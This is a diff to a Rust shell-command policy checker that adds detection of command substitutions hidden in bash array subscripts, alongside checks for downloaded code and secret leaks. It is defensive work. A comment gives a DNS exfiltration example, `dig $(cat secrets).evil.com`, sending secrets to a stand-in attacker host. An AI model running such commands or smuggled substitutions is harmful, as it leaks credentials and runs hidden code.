@@ -1,7 +1,7 @@
 //! Checks that apply to every program whatever its rule says (secrets read or printed, code that
 //! was downloaded) and to redirections (what a `>` writes, what a `<` reads).
 
-use super::{Engine, NOT_READERS, PRINTERS, word_downloads};
+use super::{Engine, NOT_READERS, PRINTERS, has_subscript_substitution, word_downloads};
 use crate::policy::invocation::Invocation;
 use crate::policy::parse::Redirect;
 use crate::policy::paths;
@@ -58,6 +58,12 @@ impl Engine<'_> {
         {
             let what = if inv.name == "chmod" { "makes executable" } else { "runs" };
             verdict = verdict.max(Verdict::high(format!("{what} {}, which was just downloaded", file.text)));
+        }
+        if let Some(word) = inv.args.iter().find(|w| has_subscript_substitution(&w.text)) {
+            verdict = verdict.max(Verdict::medium(format!(
+                "an array subscript with a command substitution ({}) runs it when bash does arithmetic",
+                word.text
+            )));
         }
         // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
         let network = NETWORK_PROGRAMS.contains(&inv.name);
